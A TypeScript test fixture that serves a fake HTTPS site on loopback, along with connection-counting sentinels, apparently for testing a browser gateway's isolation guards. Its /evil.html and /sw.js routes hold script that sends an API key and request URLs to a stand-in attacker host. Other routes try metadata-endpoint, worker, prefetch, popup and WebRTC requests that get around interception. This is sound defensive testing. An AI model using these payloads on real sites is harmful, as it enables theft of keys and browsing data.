import dgram from "node:dgram";
import fs from "node:fs";
import https from "node:https";
import os from "node:os";
import path from "node:path";
import { generate } from "selfsigned";
import { listen } from "../support/listen.ts";

/** A 1×1 red PNG, served at /pixel.png. */
export const PIXEL_PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC",
  "base64",
);

export type FakeSite = { url: string; port: number; caFile: string; hits: string[]; close(): Promise<void> };

/** A certificate for the fake hosts, valid for 127.0.0.1 and the names tests resolve to it. */
export async function testCertificate(names: string[]): Promise<{ key: string; cert: string; caFile: string }> {
  const pems = await generate([{ name: "commonName", value: names[0] ?? "localhost" }], {
    keySize: 2048,
    algorithm: "sha256",
    extensions: [
      { name: "basicConstraints", cA: true },
      {
        name: "subjectAltName",
        altNames: [...names.map((value) => ({ type: 2 as const, value })), { type: 7 as const, ip: "127.0.0.1" }],
      },
    ],
  });
  const caFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "ca-")), "ca.pem");
  fs.writeFileSync(caFile, pems.cert);
  return { key: pems.private, cert: pems.cert, caFile };
}

/** An ordinary website over HTTPS on loopback: pages, redirects, a large body, a slow answer, cookies. */
export async function startFakeSite(
  tlsPair: { key: string; cert: string; caFile: string },
  options: { forbiddenOrigin?: string; stunPort?: number } = {},
): Promise<FakeSite> {
  const hits: string[] = [];
  const server = https.createServer({ key: tlsPair.key, cert: tlsPair.cert }, (req, res) => {
    const url = new URL(req.url ?? "/", "https://fake");
    hits.push(url.pathname + url.search);
    switch (url.pathname) {
      case "/page":
        res.writeHead(200, {
          "content-type": "text/html; charset=utf-8",
          "set-cookie": "session=secret",
          connection: "keep-alive",
          "x-custom": "kept",
        });
        return res.end("<h1>hello from the fake site</h1>");
      case "/evil.html":
        // What an attacker would proxy onto the gateway's origin: script that acts as the signed-in user.
        res.writeHead(200, {
          "content-type": "text/html; charset=utf-8",
          "content-security-policy": "script-src * 'unsafe-inline'",
          "access-control-allow-origin": "*",
          "x-frame-options": "ALLOWALL",
          refresh: "0; url=https://evil.example/",
        });
        return res.end(`<script>fetch("/v1/key").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t));
navigator.serviceWorker.register("/v1/proxy?url=https://evil.test/sw.js", { scope: "/" });</script>`);
      case "/sw.js":
        res.writeHead(200, {
          "content-type": "text/javascript",
          "service-worker-allowed": "/",
          link: "</sw.js>; rel=serviceworker",
        });
        return res.end(
          `self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example/?" + e.request.url)));`,
        );
      case "/shot": {
        // A page that tries to pull from a forbidden origin three ways; the capture must still work.
        const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        return res.end(`<!doctype html><html><head><link rel="stylesheet" href="/style.css"></head>
<body><h1 id="title">Screenshot me</h1><div class="tall"></div>
<img src="${bad}/pixel.png"><script>fetch("${bad}/leak").catch(() => {}); fetch("https://169.254.169.254/latest/meta-data/").catch(() => {});</script></body></html>`);
      }
      case "/escape": {
        // Requests Playwright's routing never sees, all aimed at the forbidden origin: a SharedWorker's
        // fetch, a speculation-rules prefetch and a popup's first navigation. #blocked appears once the
        // worker has run and its fetch has failed, so a capture of it proves the worker really tried.
        const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
        const worker = `onconnect = (e) => fetch("${bad}/shared-worker").then(() => "reached", () => "blocked").then((r) => e.ports[0].postMessage(r));`;
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        return res.end(`<!doctype html><h1>escape</h1>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bad}/prefetch"]}]}</script>
<script>
const shared = new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: "text/javascript" })));
shared.port.onmessage = (e) => document.body.insertAdjacentHTML("beforeend", \`<p id="\${e.data}">\${e.data}</p>\`);
window.open("${bad}/popup");
</script>`);
      }
      case "/webrtc":
        // WebRTC goes around the gateway's request interception: ICE would send UDP straight to this STUN server.
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        return res.end(`<!doctype html><h1>rtc</h1><script>
const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${options.stunPort ?? 9}" }] });
pc.createDataChannel("leak");
pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>`);
      case "/style.css":
        res.writeHead(200, { "content-type": "text/css" });
        return res.end("body{margin:0;background:#4f46e5;color:white;font:32px sans-serif} .tall{height:2400px}");
      case "/pixel.png":
        res.writeHead(200, { "content-type": "image/png" });
        return res.end(PIXEL_PNG);
      case "/data.json":
        res.writeHead(200, { "content-type": "application/json" });
        return res.end(JSON.stringify({ ok: true }));
      case "/missing":
        res.writeHead(404, { "content-type": "text/plain" });
        return res.end("not here");
      case "/redirect": {
        const to = url.searchParams.get("to") ?? "/page";
        res.writeHead(302, { location: to });
        return res.end();
      }
      case "/loop": {
        const n = Number(url.searchParams.get("n") ?? 0);
        res.writeHead(302, { location: `/loop?n=${n + 1}` });
        return res.end();
      }
      case "/big":
        res.writeHead(200, { "content-type": "application/octet-stream" });
        for (let i = 0; i < 40; i++) res.write(Buffer.alloc(64 * 1024, 1));
        return res.end();
      case "/slow":
        setTimeout(() => {
          res.writeHead(200, { "content-type": "text/plain" });
          res.end("late");
        }, 3000).unref();
        return;
      default:
        res.writeHead(404);
        return res.end();
    }
  });
  const { url, port, close } = await listen(server);
  return { url, port, caFile: tlsPair.caFile, hits, close };
}

/** A TLS server that only counts connections: anything reaching it means a guard failed. */
export async function startSentinel(tlsPair: {
  key: string;
  cert: string;
}): Promise<{ port: number; connections: () => number; close(): Promise<void> }> {
  let connections = 0;
  const server = https.createServer({ key: tlsPair.key, cert: tlsPair.cert }, (_req, res) => res.end("sentinel"));
  server.on("connection", () => (connections += 1));
  const { port, close } = await listen(server);
  return { port, connections: () => connections, close };
}

/** A UDP listener that only counts datagrams (a STUN server a page must not reach). */
export async function startUdpSentinel(): Promise<{ port: number; packets: () => number; close(): Promise<void> }> {
  let packets = 0;
  const socket = dgram.createSocket("udp4");
  socket.on("message", () => (packets += 1));
  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
  return {
    port: socket.address().port,
    packets: () => packets,
    close: () => new Promise((resolve) => socket.close(() => resolve())),
  };
}
